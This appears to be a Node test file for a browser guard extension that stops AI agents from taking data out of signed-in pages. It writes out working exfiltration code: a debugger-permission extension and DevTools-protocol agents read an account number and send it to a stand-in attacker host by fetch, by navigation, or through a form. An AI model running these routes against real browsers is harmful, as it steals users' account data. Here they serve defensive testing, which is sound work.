// A debugger is there and touches nothing: an agent's reading is enough to be guarded, a developer's tools are nobody.
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { patiently } from '../agents/locate.mjs';
import { handMissing, handOn, openBrowser, openScreen } from '../agents/person.mjs';
import { launchOnPipe } from '../agents/pipe.mjs';
import { playwrightHands } from '../agents/playwright.mjs';
import { file, page, raw } from '../sites/html.mjs';
import { leaked } from '../sites/leaks.mjs';
import { flagsFor, startSites } from '../sites/server.mjs';
import { HOSTS, PERSON, urlOf } from '../sites/world.mjs';
import { extension } from './with-guard.mjs';

const later = (ms) => new Promise((done) => setTimeout(done, ms));
const took = ({ records }) => records.filter((r) => decodeURIComponent(r.url).includes(PERSON.account)).length;
const CREDENTIALS = new URLSearchParams({ username: PERSON.user, password: PERSON.password }).toString();

/** What a browser in which somebody signed in yesterday has kept. */
function signedInYesterday(port) {
  const headers = { host: HOSTS.bank, 'content-type': 'application/x-www-form-urlencoded' };
  return new Promise((done) => {
    const sent = request({ port, method: 'POST', path: '/login', headers }, (answer) => {
      const [name, value] = answer.headers['set-cookie'][0].split(';')[0].split('=');
      done({ name, value, url: urlOf('bank', '/') });
    });
    sent.end(CREDENTIALS);
  });
}

test('an agent that only reads a signed-in page, and leaves by an address', { timeout: 60_000 }, async () => {
  const sites = await startSites({});
  const hands = await playwrightHands({ extension, args: flagsFor(sites) });
  try {
    await hands.page.context().addCookies([await signedInYesterday(sites.port)]);
    // Not by the agent's tool, which would be a sign.
    await hands.page.evaluate((url) => location.assign(url), urlOf('bank', '/account'));
    await hands.page.waitForSelector('#account');
    await later(1_500);
    const read = await hands.page.evaluate(() => document.querySelector('#account').textContent);
    await hands.page.goto(`${urlOf('attacker', '/c')}?d=${encodeURIComponent(read)}`).catch(() => undefined);
    await later(800);
    assert.equal(read, PERSON.account);
    assert.equal(took(sites.collector), 0);
  } finally {
    await hands.close();
    await sites.close();
  }
});

/** An agent's extension, which finds a tab, attaches, reads it and goes: no pointer, no key. */
const DOOR = 'door.example';
const READER = `(async () => {
  const later = (ms) => new Promise((done) => setTimeout(done, ms));
  let tab;
  while (!tab) {
    await later(500);
    [tab] = await chrome.tabs.query({ url: '${urlOf('bank', '/account*')}' });
  }
  await later(2000);
  await chrome.debugger.attach({ tabId: tab.id }, '1.3');
  await later(2500);
  const { result } = await chrome.debugger.sendCommand({ tabId: tab.id }, 'Runtime.evaluate', { expression: "document.querySelector('#account').textContent" });
  await fetch('http://${DOOR}/read?length=' + result.value.length);
  await chrome.tabs.update(tab.id, { url: '${urlOf('attacker', '/c')}?d=' + encodeURIComponent(result.value) });
})();`;

async function readerExtension() {
  const folder = await mkdtemp(join(tmpdir(), 'interlock-reader-'));
  const manifest = {
    manifest_version: 3,
    name: 'Reader',
    version: '1',
    permissions: ['debugger', 'tabs'],
    host_permissions: ['<all_urls>'],
    background: { service_worker: 'reader.js' },
  };
  await writeFile(join(folder, 'manifest.json'), JSON.stringify(manifest));
  await writeFile(join(folder, 'reader.js'), READER);
  return folder;
}

const HIDDEN = [...new URLSearchParams(CREDENTIALS)]
  .map(([name, value]) => `<input type="hidden" name="${name}" value="${value}">`)
  .join('');
const SIGNS_IN = `<form method="post" action="${urlOf('bank', '/login')}">${HIDDEN}</form><script>document.forms[0].submit()</script>`;

/** Opens a person's browser on a screen of its own, at a page of ours. */
async function onScreen({ extensions, pages, url }, watch) {
  const sites = await startSites({ extra: { [DOOR]: pages } });
  const screen = await openScreen();
  const browser = openBrowser({
    extensions,
    args: flagsFor(sites, [DOOR]),
    environment: screen.environment,
    url,
  });
  try {
    return await watch(sites, handOn(screen.environment));
  } finally {
    await browser.close();
    screen.close();
    await sites.close();
  }
}

test('an extension attaches to a page that was there before, and only reads', {
  timeout: 60_000,
  skip: handMissing(),
}, async () => {
  const reader = await readerExtension();
  let read = '0';
  let isOpen = false;
  const pages = ({ path, query }) => {
    isOpen = true;
    if (path !== '/read') return page({ title: 'Door', name: 'Door', body: raw(SIGNS_IN) });
    read = query.get('length');
    return file('text/plain', '');
  };
  const extensions = extension ? [extension, reader] : [reader];
  const taken = await onScreen({ extensions, pages, url: 'about:blank' }, async (sites, hand) => {
    // A browser that is busy starting loses what is typed.
    for (let tries = 3; tries > 0 && !isOpen; tries--) {
      await later(2_000);
      await hand.goTo(`http://${DOOR}/`);
      await later(2_000);
    }
    await patiently(() => read !== '0', 'that the extension reads', 20_000);
    await later(2_500);
    return took(sites.collector);
  });
  await rm(reader, { recursive: true });
  assert.equal(Number(read), PERSON.account.length, 'the extension could not read the page');
  assert.equal(taken, 0);
});

/** What an agent that was given the address of a running browser does with its open pages: it attaches, and evaluates. */
const WAYS_OFF = {
  'by a request of its own': ({ evaluate }) =>
    evaluate(`fetch('${urlOf('attacker', '/c')}', { mode: 'no-cors', method: 'POST', body: '${PERSON.account}' })`),
  'by an address': ({ call }) =>
    call('Page.navigate', { url: `${urlOf('attacker', '/c')}?d=${encodeURIComponent(PERSON.account)}` }),
  'by the attacker’s form, in another tab': async ({ send, attach }) => {
    const { targetId } = await send('Target.createTarget', { url: urlOf('attacker', '/verify') });
    await later(1_500);
    const { evaluate } = await attach(targetId);
    await evaluate(
      `document.querySelector('[name=notes]').value = '${PERSON.account}'; document.querySelector('form').requestSubmit()`,
    );
  },
};
/** What a model takes at least to answer. */
const THOUGHT_MS = 2_500;

// `INTERLOCK_ALL=1` runs all of them.
for (const [way, sendOff] of Object.entries(WAYS_OFF).slice(0, process.env.INTERLOCK_ALL ? undefined : 1))
  test(`a debugger comes to a signed-in page that was open, reads it, and sends it off ${way}`, {
    timeout: 60_000,
  }, async () => {
    const pages = () => page({ title: 'Door', name: 'Door', body: raw(SIGNS_IN) });
    const sites = await startSites({ extra: { [DOOR]: pages } });
    const { send, close } = await launchOnPipe({ extension, args: flagsFor(sites, [DOOR]) });
    try {
      await later(2_000);
      const { targetId } = await send('Target.createTarget', { url: `http://${DOOR}/` });
      await patiently(
        () => sites.world.visits.some(({ path }) => path === '/account'),
        'that the person signs in',
        15_000,
      );
      // Nobody is attached, and nobody is told of anything.
      await later(2_500);
      const attach = async (id) => {
        const { sessionId } = await send('Target.attachToTarget', { targetId: id, flatten: true });
        const call = (method, params) => send(method, params, sessionId);
        const evaluate = async (expression) =>
          (await call('Runtime.evaluate', { expression, awaitPromise: true, returnByValue: true })).result.value;
        return { call, evaluate };
      };
      const agent = await attach(targetId);
      const read = await agent.evaluate("document.querySelector('#account').textContent");
      await later(THOUGHT_MS);
      await sendOff({ ...agent, send, attach });
      await later(1_500);
      assert.equal(read, PERSON.account);
      assert.deepEqual(leaked(sites.collector.records, { account: PERSON.account }), []);
    } finally {
      await close();
      await sites.close();
    }
  });

/** Buttons that count, side by side: in a page, and in frames of kinds that hardly any script is given to. */
const COUNTS =
  '<body style="margin:0"><button style="width:150px;height:60px" onclick="top.postMessage(1, \'*\')">More</button>';
const FRAMES = `<script>counted = 0; onmessage = () => { counted += 1; };</script>${COUNTS}<br>
  <iframe style="position:absolute;left:0;top:100px;border:0" src="data:text/html,${encodeURIComponent(COUNTS)}"></iframe>
  <iframe style="position:absolute;left:0;top:300px;border:0" sandbox="allow-scripts" srcdoc="${COUNTS.replaceAll('"', '&quot;')}"></iframe>`;

test('what an agent presses first, in a page and in frames that were there before it, is done', {
  timeout: 60_000,
}, async () => {
  const sites = await startSites({ extra: { [DOOR]: () => file('text/html', FRAMES) } });
  const { send, close } = await launchOnPipe({ extension, args: flagsFor(sites, [DOOR]) });
  try {
    await later(2_000);
    const { targetId } = await send('Target.createTarget', { url: `http://${DOOR}/` });
    await later(2_500);
    const { sessionId } = await send('Target.attachToTarget', { targetId, flatten: true });
    const call = (method, params) => send(method, params, sessionId);
    // While it becomes known who is here.
    for (let round = 0; round < 4; round++)
      for (const y of [30, 130, 330])
        for (const type of ['mousePressed', 'mouseReleased'])
          await call('Input.dispatchMouseEvent', { type, x: 70, y, button: 'left', clickCount: 1 });
    const counted = async () => (await call('Runtime.evaluate', { expression: 'counted' })).result.value;
    await patiently(async () => (await counted()) >= 12, 'that all twelve are done', 10_000);
    await later(300);
    assert.equal(await counted(), 12);
  } finally {
    await close();
    await sites.close();
  }
});

test('open developer tools make nobody an agent', { timeout: 60_000, skip: handMissing() }, async () => {
  const told = [];
  const pages = ({ path, query }) => {
    if (path === '/tell') told.push({ native: query.get('native'), width: Number(query.get('width')) });
    if (path === '/tell') return file('text/plain', '');
    const tells = `setInterval(() => fetch('/tell?width=' + innerWidth + '&native=' + /native code/.test(HTMLFormElement.prototype.submit)), 300)`;
    return page({
      title: 'Signed in',
      name: 'Signed in',
      body: raw(`<a href="/logout">Sign out</a><script>${tells}</script>`),
    });
  };
  const extensions = extension ? [extension] : [];
  await onScreen({ extensions, pages, url: 'about:blank' }, async (_, hand) => {
    await later(2_000);
    await hand.goTo(`http://${DOOR}/`);
    await later(1_500);
    await hand.press('ctrl+shift+i');
    await later(4_000);
    await hand.press('ctrl+r');
    await later(2_500);
  });
  const widths = told.map(({ width }) => width);
  assert.ok(Math.min(...widths) < Math.max(...widths), `the tools are open beside the page (${widths})`);
  assert.deepEqual(
    told.filter(({ native }) => native !== 'true'),
    [],
    'something of ours was put into it',
  );
});
